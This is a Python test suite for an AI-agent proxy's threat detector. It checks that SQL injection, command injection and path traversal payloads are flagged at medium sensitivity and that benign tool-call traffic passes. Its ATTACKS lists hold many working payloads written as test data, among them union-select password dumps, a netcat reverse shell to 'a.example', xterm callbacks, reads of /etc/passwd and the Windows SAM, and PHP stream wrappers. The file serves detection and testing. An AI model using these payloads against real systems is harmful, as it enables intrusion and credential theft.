"""
SQL injection, command injection and path traversal at medium sensitivity:
one case per class of issue 16 (each missed by the rules before it), the
benign traffic beside each, where a string sits (argument kinds), encoding a
detected payload one more way, and the prefilter still skipping only what
the threat step would pass.
"""

from __future__ import annotations

from typing import Any, Callable

from hypothesis import given, settings, strategies as st
from twisted.trial.unittest import SynchronousTestCase

from akto_proxy.inspect.checks.prefilter import buildPrefilter
from akto_proxy.inspect.checks.threats import argumentKind
from akto_proxy.inspect.normalize import decode, foldShell, foldSQL, joinSQL, variants
from tests.corpus.evaluate import entries
from tests.inspect.test_checks import call, config, rules, verdict
from tests.inspect.test_prefilter import same, steps
from akto_proxy.inspect.checks import buildInspectors

SQL, CMD, PATH = "sql_injection", "command_injection", "path_traversal"

# (class, check, tool, argument, payload): each missed by the rules before
# issue 16.
ATTACKS = [
    ("sql: quoteless tautology", SQL, "get_user", "username", "or true--"),
    ("sql: quoteless boolean tail", SQL, "lookup_order", "order_id", "OR 1=0#"),
    ("sql: literal tail with a dangling quote", SQL, "get_user", "username", " AND 1=0 AND '%'='"),
    ("sql: bare word and a false condition", SQL, "search_products", "query", "HOPE AND 8=3"),
    ("sql: keyword split by a comment", SQL, "get_user", "username", "DECLARE/**/@x VARCHAR(99)"),
    ("sql: union split by a comment", SQL, "lookup_order", "order_id", "1 UN/**/ION SEL/**/ECT password FROM users"),
    ("sql: DDL statement in a value", SQL, "get_user", "username", "ALTER TABLE users ADD admin INT"),
    ("sql: CREATE FUNCTION in a value", SQL, "lookup_order", "order_id", "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'"),
    ("sql: standalone select in a value", SQL, "filter_records", "category", "select password from users"),
    ("sql: union probe without a quote", SQL, "filter_records", "category", "UNION ALL SELECT 'INJ'||'ECT',2,3--"),
    ("sql: union glued to a number", SQL, "get_user", "username", "1e0UNION SELECT 2"),
    ("sql: MSSQL system variable", SQL, "get_user", "username", "@@servername"),
    ("sql: SQLite function", SQL, "search_products", "query", "sqlite_version()"),
    ("sql: Oracle package", SQL, "get_user", "username", "dbms_xmlgen.getxml"),
    ("sql: quote breakout into collate", SQL, "get_user", "username", "user'collate nocase--"),
    ("cmd: quotes inside a word", CMD, "ping_host", "host", "8.8.8.8;x't'erm -display 10.0.0.1:1"),
    ("cmd: unset variable inside a word", CMD, "ping_host", "host", "127.0.0.1;c$u\"\"at /e$u\"\"tc/pa$u\"\"sswd"),
    ("cmd: variables assembling a command", CMD, "convert_file", "filename", "a=/etc&&b=/passwd&&c=cat&&$c $a$b"),
    ("cmd: brace expansion", CMD, "dns_lookup", "domain", "x;{xterm,-display,10.0.0.1:1}"),
    ("cmd: glob-spelled path", CMD, "ping_host", "host", "x;/u?r/b??/x?erm -display 10.0.0.1:1"),
    ("cmd: here-string", CMD, "ping_host", "host", "x;bash<<<id"),
    ("cmd: encoded newline", CMD, "dns_lookup", "domain", "example.com%0axterm -display 10.0.0.1:1"),
    ("cmd: any command after a separator", CMD, "backup", "name", "nightly;xterm -display 10.0.0.1:1"),
    ("cmd: evaluator call", CMD, "resize_image", "image", "${@system('id')}"),
    ("cmd: interpreter one-liner", CMD, "convert_file", "filename", "x.png; jrunscript -e 'exec(\"id\")'"),
    ("cmd: Windows cmd", CMD, "ping_host", "host", "127.0.0.1 & FOR /F %i IN ('whoami') DO echo %i"),
    ("cmd: PowerShell", CMD, "dns_lookup", "domain", "x|Get-Content C:\\Windows\\win.ini"),
    ("cmd: caret-split Windows word", CMD, "ping_host", "host", "x&w^h^o^a^m^i"),
    ("path: overlong four-byte", PATH, "read_file", "path", "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc%f0%80%80%afhosts"),
    ("path: %u and full-width separators", PATH, "read_file", "path", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215hosts"),
    ("path: 0x2e dots", PATH, "get_document", "name", "0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/hosts"),
    ("path: quadruple percent-encoding", PATH, "read_file", "path", "%2525252e%2525252e%2525252f%2525252e%2525252e%2525252fetc/hosts"),
    ("path: backslash separators", PATH, "view_file", "file", "\\windows\\win.ini"),
    ("path: system configuration, no ..", PATH, "read_file", "path", "/etc/nginx/nginx.conf"),
    ("path: process state, no ..", PATH, "read_file", "path", "/proc/1/mounts"),
    ("path: server log, no ..", PATH, "open_file", "path", "/var/log/apache2/access.log"),
    ("path: PHP configuration, no ..", PATH, "open_file", "path", "C:\\xampp\\php\\php.ini"),
    ("path: Windows system file, no ..", PATH, "download", "file", "C:/Windows/System32/drivers/etc/hosts"),
    ("path: php://filter", PATH, "render_template", "template", "php://filter/convert.base64-encode/resource=index.php"),
    ("path: zip:// wrapper", PATH, "render_template", "template", "zip://uploads/a.zip%23shell.php"),
    ("path: expect:// wrapper", PATH, "render_template", "template", "expect://id"),
    # session 9 (each missed by the rules before it)
    ("cmd: separator after a closing bracket", CMD, "convert_file", "filename", "a);pwd|"),
    ("cmd: separator after a dollar sign", CMD, "backup", "name", "$;last"),
    ("cmd: a variable run as the command", CMD, "ping_host", "host", "FAIL||X=$'pwd';$X"),
    ("cmd: default-value expansion inside a word", CMD, "ping_host", "host", "127.0.0.1|ca${u:-}t /etc/hosts"),
    ("sql: a name equal to itself after OR", SQL, "get_user", "username", "hi or a=a"),
    ("sql: DESC stacked after a quote", SQL, "get_user", "username", "\\'; desc users; --"),
    ("path: IIS escapes with a non-hex digit", PATH, "read_file", "path", "..%c1%pc..%c1%pc..%c1%pcetc%c1%pchosts"),
    ("path: Windows device path", PATH, "read_file", "path", "\\\\.\\c:\\boot.ini"),
    ("path: PHP configuration under /usr/lib", PATH, "open_file", "path", "/usr/lib/php.ini"),
    ("path: macOS web server files", PATH, "view_file", "file", "/Library/WebServer/Documents/index.php"),
    ("path: Windows administrative share", PATH, "read_file", "path", "\\\\fileserver\\admin$\\system32\\config\\sam"),
    ("path: Windows system directory by variable", PATH, "read_file", "path", "%WINDIR%\\system32\\drivers\\etc\\hosts"),
    ("path: container runtime socket", PATH, "open_file", "path", "/var/run/docker.sock"),
    ("path: PHP session file", PATH, "read_file", "path", "/tmp/sess_abc123"),
    # session 10: forms the extended generators produced (each missed by
    # the rules before it)
    ("sql: line comments before statement words", SQL, "lookup_order", "order_id", "1;#x\nDROP#x\nTABLE users"),
    ("sql: encoded line comments before statement words", SQL, "lookup_order", "order_id", "1;%23x%0aDROP%23x%0aTABLE users"),
    ("sql: quotes escaped with a backslash", SQL, "lookup_order", "order_id", "1\\' AND \\'1\\'=\\'1"),
    ("cmd: octal ANSI-C string", CMD, "backup", "name", "x$($'\\151\\144')"),
    ("cmd: a quoted piece closing a word", CMD, "ping_host", "host", "x\nl\"s\" -la /root"),
    ("cmd: a quoted piece in a substitution", CMD, "ping_host", "host", "$(n\"c\" a.example 4444 -e /bin/bash)"),
    ("cmd: brace expansion with an empty word", CMD, "resize_image", "image", "x$({whoami,})"),
    ("cmd: locale string in braces", CMD, "backup", "name", '{,$"whoami",}'),
    ("cmd: quoted command in a substitution", CMD, "dns_lookup", "domain", "8.8.8.8$('sleep' 5)"),
    ("cmd: glob in a binary's own name", CMD, "backup", "name", "`/bin/w[h]oami`"),
    ("cmd: FOR /F with a named variable", CMD, "ping_host", "host", "for /f %variable in ('whoami') do echo %variable"),
    ("cmd: IMAP command after a line break", CMD, "git_clone", "url", "\r\na001 STATUS INBOX (MESSAGES)\n"),
    ("cmd: Windows recon after a spaced separator", CMD, "ping_host", "host", "127.0.0.1 & netsh wlan show profiles"),
    ("cmd: Windows recon in a value", CMD, "dns_lookup", "domain", "nltest /domain_trusts"),
    ("cmd: Linux recon in a value", CMD, "backup", "name", "df -h"),
    ("path: system configuration after a climb", PATH, "read_file", "path", "./../../etc/./ssh/./sshd_config"),
    ("path: file URL naming localhost", PATH, "get_document", "name", "file://localhost/etc/fstab"),
    ("path: climbing out of a home directory", PATH, "read_file", "path", "~/../../../var/mail/root"),
    ("path: hex digits encoded one by one", PATH, "download", "file", "%%32%%65%%32%%65\\etc\\passwd"),
    ("path: .../. segments", PATH, "list_directory", "path", ".../.\\.../.\\boot.ini"),
    ("path: invalid escape after /.", PATH, "list_directory", "path", ".../.%bg%qf.../.%bg%qfboot.ini"),
]

# Evidence only the form as written holds: letters percent-encoded, which no
# encoder writes (RFC 3986 2.3).  Decoded, it is a plain name; so encoding it
# once more in a way the decoder undoes first (full-width %) loses it, and
# it stays out of the property below.
AS_WRITTEN = [
    ("path: letters percent-encoded", PATH, "get_document", "name", "%2e%68%74%61%63%63%65%73%73"),
]

# Classes the rules held before issue 16, kept as regressions (and as
# payloads for the property below); $IFS is one too.
HELD = [
    ("cmd: $IFS", CMD, "ping_host", "host", "x;cat${IFS}/etc/hosts"),
    ("cmd: ANSI-C hex string", CMD, "ping_host", "host", "x;$'\\x69\\x64'"),
    ("cmd: reversed and piped to a shell", CMD, "convert_file", "filename", "a.png; echo 'di' | rev | sh"),
    ("path: NUL truncation", PATH, "read_file", "path", "../../../../etc/hosts%00.png"),
    ("path: mixed separators", PATH, "view_file", "file", "..\\../..\\../etc/hosts"),
    ("sql: line comment hiding the union", SQL, "get_user", "username", "-1#xyz\nunion select 1,2"),
]

# What agents send beside each class, in the arguments they send it in.
BENIGN = [
    ("run_sql", "query", "SELECT id, name FROM users WHERE created_at > now() - interval '1 day' ORDER BY 2"),
    ("run_sql", "query", "ALTER TABLE orders ADD COLUMN shipped_at timestamptz"),
    ("query_db", "query", "DECLARE @n INT; SET @n = 5; SELECT TOP (@n) * FROM logs"),
    ("get_user", "username", "O'Brien"),
    ("get_user", "username", "D'Or"),
    ("search_products", "query", "Rock 'n' Roll or Jazz"),
    ("search_products", "query", "1 or 2 bedrooms"),
    ("search_products", "query", "between 1 and 10"),
    ("search_products", "query", "select committee report"),
    ("search_products", "query", "delete button broken"),
    ("web_search", "query", "what does 'or 1=1' mean in security reports"),
    ("web_search", "query", "python subprocess vs os.system"),
    ("chat", "message", "DROP TABLE is irreversible; take a backup first"),
    ("create_issue", "title", "Union Square store: select hours and update the sign"),
    ("run_command", "command", "git log --oneline HEAD~5..HEAD | head -3 && npm test"),
    ("git_commit", "message", "fix: handle `null` in parser; bump deps"),
    ("convert_file", "filename", "Tom & Jerry.mp4"),
    ("convert_file", "filename", "notes & todo.md"),
    ("convert_file", "filename", "photo (1).png"),
    ("fetch_url", "url", "https://example.com/search?q=shoes&size=10&color=red"),
    ("get_user", "username", "rock-n-roll; jazz; blues"),
    ("send_message", "text", "Run `npm test` before pushing; use $(pwd) in scripts"),
    ("read_file", "path", "src/components/../hooks/useAuth.ts"),
    ("read_file", "path", "../shared/config.yaml"),
    ("read_file", "path", "/home/dev/project/src/index.js"),
    ("read_file", "path", "C:\\Users\\dev\\project\\main.cs"),
    ("read_file", "path", "/tmp/build/output.log"),
    ("read_file", "path", "config/settings.ini"),
    ("read_file", "path", "~/projects/app/.env.example"),
    ("read_file", "path", "\\\\fileserver\\projects\\report.docx"),
    ("read_file", "path", "%APPDATA%\\Code\\User\\settings.json"),
    ("read_file", "path", "/tmp/session_notes.txt"),
    ("git_log", "range", "HEAD~3..HEAD"),
    ("git_diff", "range", "main...feature/login"),
    ("write_file", "content", "import os\nos.system('make test')\n"),
    # session 10
    ("translate", "text", 'private static final String SECRETKEY = "%SECRETKEY%";'),
    ("send_email", "subject", 'gh secret set SIGNING_KEY --body "<signing-key>"'),
    ("update_profile", "bio", '/SEARCH?SEARCH_SUBMIT=&Q=36"+X+48+"+FRAME&VIEW_TYPE=GALLERY&SHIP_TO=US'),
    ("read_file", "path", "../etc/akto-proxy/akto-proxy.yaml"),
    ("read_file", "path", "src/pages/[id].tsx"),
    ("read_file", "path", "~/../shared/notes.md"),
    ("fetch_url", "url", "https://example.com/a%20b/%C3%A9t%C3%A9.html"),
]


class ClassTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))

    def test_attacks(self) -> None:
        """
        Each class is found by its check at medium.
        """
        for name, check, tool, argument, payload in ATTACKS + HELD + AS_WRITTEN:
            found = rules(verdict(self.steps, call(tool, **{argument: payload})))
            self.assertTrue(any(r.startswith(check + ".") for r in found), f"{name}: {payload!r} -> {found}")

    def test_benign(self) -> None:
        """
        The traffic beside them passes, without any exclusion.
        """
        for tool, argument, text in BENIGN:
            if argument in ("query", "command", "content") and tool in ("run_sql", "query_db", "run_command", "write_file"):
                continue  # whole statements: see test_benignCode
            found = rules(verdict(self.steps, call(tool, **{argument: text})))
            self.assertEqual(found, set(), f"{tool}.{argument}: {text!r}")

    def test_benignCode(self) -> None:
        """
        SQL in a database tool's query and shell in a command argument are
        code, which the value rules leave alone.
        """
        for tool, argument, text in BENIGN:
            if tool in ("run_sql", "query_db", "run_command", "write_file"):
                found = rules(verdict(self.steps, call(tool, **{argument: text})))
                self.assertEqual(found, set(), f"{tool}.{argument}: {text!r}")

    def test_low(self) -> None:
        """
        The context rules are medium rules: at low a quoteless tail passes.
        """
        low = buildInspectors(config("threat_detection:\n  sensitivity: low\n"))
        self.assertEqual(rules(verdict(low, call("get_user", username="OR 1=0#"))), set())


class FailureTests(SynchronousTestCase):
    def test_valueRuleFailing(self) -> None:
        """
        A value rule whose validator fails follows its check's C{on_error}:
        C{pass} records the failure and goes on, the default raises.
        """
        from akto_proxy.inspect.checks import validators

        def broken(text: str) -> bool:
            raise ValueError("broken")

        original = validators.WHOLE_TEXT["separator_command"]
        validators.WHOLE_TEXT["separator_command"] = broken
        self.addCleanup(validators.WHOLE_TEXT.__setitem__, "separator_command", original)
        m = call("ping_host", host="127.0.0.1;xterm -display a:1")
        passing = buildInspectors(
            config("threat_detection:\n  sensitivity: medium\n  checks:\n    command_injection: {on_error: pass}\n")
        )
        v = verdict(passing, m)
        self.assertIn("command_injection.exception", rules(v))
        self.assertEqual(len(self.flushLoggedErrors(ValueError)), 1)
        self.assertRaises(ValueError, verdict, buildInspectors(config("threat_detection:\n  sensitivity: medium\n")), m)


class ArgumentKindTests(SynchronousTestCase):
    def test_kinds(self) -> None:
        self.assertEqual(argumentKind("run_sql", "params.arguments.query"), "code")
        self.assertEqual(argumentKind("search_products", "params.arguments.query"), "data")
        self.assertEqual(argumentKind("web_search", "params.arguments.query"), "text")
        self.assertEqual(argumentKind("run", "params.arguments.command"), "code")
        self.assertEqual(argumentKind("chat", "params.arguments.message"), "text")
        self.assertEqual(argumentKind("ping", "params.arguments.host"), "data")
        self.assertEqual(argumentKind("ping", "params.arguments.opts.targets[2]"), "data")
        self.assertEqual(argumentKind(None, "url.query.id"), "data")
        self.assertEqual(argumentKind(None, "url.path"), "text")
        self.assertEqual(argumentKind(None, "params.uri"), "data")
        self.assertEqual(argumentKind("x", "params.name"), "text")


class NormaliseTests(SynchronousTestCase):
    def test_decode(self) -> None:
        self.assertEqual(decode("%f0%80%80%ae%f8%80%80%80%ae/"), "../")
        self.assertEqual(decode("%c0%2e%c0%2e%c0%2f"), "../")
        self.assertEqual(decode("..%uEFC8..%uF025etc"), "../../etc")
        self.assertEqual(decode("\uff0e\uff0e\u2215"), "../")
        self.assertEqual(decode("%%32%%65%%32%%65%%35%%63"), "..\\")
        self.assertEqual(decode("50%a%20off"), "50%a off")

    def test_sql(self) -> None:
        self.assertEqual(joinSQL("1 UN/**/ION SEL/**/ECT 1"), "1 UNION SELECT 1")
        self.assertEqual(foldSQL("-1#x\nunion select 1"), "-1 union select 1")
        self.assertEqual(foldSQL("a # heading\nsome prose"), "a # heading some prose")
        self.assertEqual(foldSQL("1;-- x\nDROP-- x\nTABLE t"), "1; DROP TABLE t")
        self.assertEqual(foldSQL("x\\' or \\'a\\'=\\'a"), "x' or 'a'='a")

    def test_shell(self) -> None:
        self.assertEqual(foldShell("a=c;b=at;$a$b /etc/hosts"), "a=c;b=at;cat /etc/hosts")
        self.assertEqual(foldShell("c$u\"\"at"), "cat")
        self.assertEqual(foldShell("$SHELL -c id"), "/bin/sh -c id")
        self.assertEqual(foldShell("w^h^o^a^m^i"), "whoami")
        self.assertEqual(foldShell("c$?at"), "cat")
        self.assertEqual(foldShell("{,$'id',}"), "id")
        self.assertEqual(foldShell("price $5 and $HOME_PRICE"), "price  and $HOME_PRICE")
        self.assertEqual(foldShell("$'\\143\\141\\164' /etc/hosts"), "cat /etc/hosts")
        self.assertEqual(foldShell("$'\\u0063at'"), "cat")
        self.assertEqual(foldShell("l\"s\" -la"), "ls -la")
        self.assertEqual(foldShell("{whoami,}"), "whoami")
        self.assertEqual(foldShell("wh'oami'"), "whoami")
        self.assertEqual(foldShell("say 'fine'"), "say 'fine'")

    def test_variantsOnlyWhenNeeded(self) -> None:
        for text in ("cost: $HOME_PRICE", "plain words", "a # heading\nsome prose", "# Setup\nTo install, run it.\n## Notes\nIn short: yes"):
            self.assertEqual([v.kind for v in variants(text)], ["r"], text)


def _percent(c: str) -> str:
    return "".join(f"%{b:02x}" for b in c.encode("utf-8"))


def _fullwidth(c: str) -> str:
    return chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c


def _entity(c: str) -> str:
    return f"&#{ord(c)};"


def _pctU(c: str) -> str:
    return f"%u{ord(c):04x}"


# One more layer of encoding, applied to the characters hypothesis picks.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "percent": _percent,
    "html": _entity,
    "pct_u": _pctU,
    "fullwidth": _fullwidth,
}


def _encode(text: str, how: str, mask: list[bool]) -> str:
    fn = ENCODINGS[how]
    return "".join(fn(c) if mask[i % len(mask)] else c for i, c in enumerate(text))


class PropertyTests(SynchronousTestCase):
    steps: Any = None

    def setUp(self) -> None:
        if PropertyTests.steps is None:
            PropertyTests.steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))

    @settings(max_examples=400, deadline=None)
    @given(
        st.sampled_from(ATTACKS + HELD),
        st.sampled_from(sorted(ENCODINGS)),
        st.lists(st.booleans(), min_size=1, max_size=16),
    )
    def test_oneMoreEncoding(self, attack: tuple[str, str, str, str, str], how: str, mask: list[bool]) -> None:
        """
        A detected payload encoded one more way, on any of its characters,
        is still found by the same check.
        """
        name, check, tool, argument, payload = attack
        if how == "fullwidth" and check == CMD:
            mask = [False]  # shells do not fold full-width letters: no attack to find
        encoded = _encode(payload, how, mask)
        found = rules(verdict(self.steps, call(tool, **{argument: encoded})))
        self.assertTrue(any(r.startswith(check + ".") for r in found), f"{name}: {encoded!r} -> {found}")


class PrefilterTests(SynchronousTestCase):
    def test_classicCorpus(self) -> None:
        """
        The second corpus, with and without the sample exclusions: the
        chain's outcome is the same with the prefilter as without.
        """
        items = entries()[::3]
        for exclusions in (False, True):
            built = steps("medium", exclusions)
            prefilter = buildPrefilter(built)
            for e in items:
                if e["direction"] == "request":
                    same(self, built, prefilter, call_(e))

    @settings(max_examples=300, deadline=None)
    @given(
        st.lists(
            st.lists(
                st.sampled_from(
                    list("abcdeilnorstwy $'\"{}%&\\/.;*|-=()<>1@\n^`#?") +
                    ["0x2e", "%c0%ae", "%u2215", "$a", "${x}", "union", " select ", "or 1=0", "--\n", "/**/", "etc", "cmd"]
                ),
                max_size=20,
            ).map("".join),
            min_size=1,
            max_size=3,
        ),
        st.sampled_from(["username", "query", "command", "path", "message"]),
    )
    def test_generated(self, texts: list[str], argument: str) -> None:
        built = _STEPS
        m = call("search_products", **{f"{argument}{i or ''}": t for i, t in enumerate(texts)})
        same(self, built, _PREFILTER, m)


def call_(e: dict[str, str]) -> Any:
    from tests.inspect.test_prefilter import call as prefilterCall

    return prefilterCall(e["tool"], **{e["argument"]: e["text"]})


_STEPS = steps("medium")
_PREFILTER = buildPrefilter(_STEPS)
